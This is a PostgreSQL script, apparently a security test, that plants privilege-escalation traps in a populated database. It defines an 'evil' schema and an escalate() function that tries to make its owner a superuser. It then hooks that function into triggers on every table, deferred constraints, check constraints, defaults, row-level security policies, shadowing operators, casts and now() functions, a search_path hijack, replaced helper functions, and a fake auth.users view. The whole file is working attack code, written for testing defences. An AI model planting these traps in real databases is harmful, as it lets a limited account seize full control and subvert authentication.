-- What a storage owner who wants more could plant.  Run as that owner in a populated database (populate.sql); each trap
-- notes with whose rights it runs, and tries to make the owner a superuser, at once and at commit.
\set QUIET on
SET client_min_messages = error;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.seen (who text, session text, by_what text);
GRANT SELECT, INSERT ON evil.seen TO PUBLIC;

CREATE FUNCTION evil.escalate(by_what text) RETURNS boolean LANGUAGE plpgsql SET search_path FROM CURRENT AS $$
DECLARE
	me    text := (SELECT pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = 'evil');
	super text := (SELECT rolname FROM pg_roles WHERE oid = 10);
	s     text;
BEGIN
	INSERT INTO evil.seen VALUES (current_user, session_user, by_what);
	FOREACH s IN ARRAY ARRAY['', 'RESET ROLE', 'SET ROLE NONE', format('SET ROLE %I', super), 'SET SESSION AUTHORIZATION DEFAULT', 'RESET SESSION AUTHORIZATION'] LOOP
		BEGIN
			EXECUTE s;
			EXECUTE format('ALTER ROLE %I SUPERUSER', me);
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END LOOP;
	RETURN true;
END
$$;
ALTER FUNCTION evil.escalate(text) RESET ALL;

-- runs later, when somebody else's rights may be in force
CREATE FUNCTION evil.later(by_what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	BEGIN
		SET CONSTRAINTS ALL DEFERRED;
		EXECUTE format('DECLARE %I CURSOR WITH HOLD FOR SELECT evil.escalate(%L)', 'held ' || random(), 'cursor kept by ' || by_what);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
END
$$;

CREATE FUNCTION evil.trap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.escalate(format('%s %s trigger of %s', TG_WHEN, TG_OP, TG_TABLE_NAME));
	PERFORM evil.later(TG_TABLE_NAME);
	IF TG_OP = 'DELETE' THEN
		RETURN OLD;
	END IF;
	RETURN NEW;
END
$$;

CREATE FUNCTION evil.late_trap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.escalate('deferred trigger of ' || TG_TABLE_NAME);
	RETURN NULL;
END
$$;

DO $$
DECLARE
	t text;
BEGIN
	FOR t IN SELECT c.oid::regclass FROM pg_class c
	          WHERE c.relkind = 'r' AND c.relnamespace IN ('public'::regnamespace, 'peer_mentor_private'::regnamespace) AND pg_has_role(c.relowner, 'USAGE') LOOP
		EXECUTE format('CREATE TRIGGER a_trap BEFORE INSERT OR UPDATE OR DELETE ON %s FOR EACH ROW EXECUTE FUNCTION evil.trap()', t);
		EXECUTE format('CREATE TRIGGER z_trap AFTER INSERT OR UPDATE OR DELETE ON %s FOR EACH STATEMENT EXECUTE FUNCTION evil.trap()', t);
		EXECUTE format('CREATE CONSTRAINT TRIGGER late_trap AFTER INSERT OR UPDATE OR DELETE ON %s DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.late_trap()', t);
	END LOOP;
END
$$;

-- rules and constraints that call
ALTER TABLE public.peer_mentor_status ADD CHECK (evil.escalate('check')) NOT VALID;
ALTER TABLE public.outbox_events ALTER COLUMN last_error SET DEFAULT evil.escalate('default')::text;
CREATE POLICY trap ON public.peer_mentors USING (evil.escalate('policy'));
ALTER TABLE public.peer_mentors FORCE ROW LEVEL SECURITY;

-- operators, casts and functions that a careless name would find first
CREATE FUNCTION evil.same(uuid, uuid) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN PERFORM evil.escalate(''operator''); RETURN uuid_eq($1, $2); END';
CREATE OPERATOR public.= (LEFTARG = uuid, RIGHTARG = uuid, FUNCTION = evil.same);
CREATE OPERATOR evil.= (LEFTARG = uuid, RIGHTARG = uuid, FUNCTION = evil.same);
CREATE FUNCTION evil.to_status(text) RETURNS public.mentor_status LANGUAGE plpgsql AS 'BEGIN PERFORM evil.escalate(''cast''); RETURN enum_first(NULL::public.mentor_status); END';
CREATE CAST (text AS public.mentor_status) WITH FUNCTION evil.to_status(text) AS IMPLICIT;
CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS 'BEGIN PERFORM evil.escalate(''function''); RETURN pg_catalog.now(); END';
CREATE FUNCTION public.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS 'BEGIN PERFORM evil.escalate(''function''); RETURN pg_catalog.now(); END';
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = evil, public, pg_catalog', current_database()); EXCEPTION WHEN insufficient_privilege THEN NULL; END $$;
DO $$ BEGIN EXECUTE format('ALTER ROLE %I SET search_path = evil, public, pg_catalog', current_user); END $$;

-- helpers of the storage, which its owner may replace
DO $$
DECLARE
	f record;
BEGIN
	FOR f IN SELECT p.oid::regprocedure AS name, p.proname, pg_get_function_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result
	           FROM pg_proc p WHERE p.pronamespace = 'peer_mentor_private'::regnamespace AND p.prorettype = 'void'::regtype AND pg_has_role(p.proowner, 'USAGE') LOOP
		EXECUTE format('CREATE OR REPLACE FUNCTION peer_mentor_private.%I(%s) RETURNS void LANGUAGE plpgsql AS %L', f.proname, f.arguments,
			format('BEGIN PERFORM evil.escalate(%L); END', 'helper ' || f.proname));
	END LOOP;
END
$$;
CREATE OR REPLACE FUNCTION peer_mentor_private.touch() RETURNS trigger LANGUAGE plpgsql AS
	'BEGIN PERFORM evil.escalate(''helper touch''); NEW.updated_at := pg_catalog.clock_timestamp(); RETURN NEW; END';

-- a view where a parent table is looked up
DO $$
BEGIN
	IF pg_has_role((SELECT relowner FROM pg_class WHERE oid = 'auth.users'::regclass), 'USAGE') THEN
		ALTER TABLE auth.users RENAME TO true_users;
		CREATE VIEW auth.users AS SELECT id FROM auth.true_users WHERE evil.escalate('view');
		CREATE OR REPLACE FUNCTION auth.uid() RETURNS uuid LANGUAGE plpgsql AS 'BEGIN PERFORM evil.escalate(''auth.uid''); RETURN NULL; END';
	END IF;
END
$$;
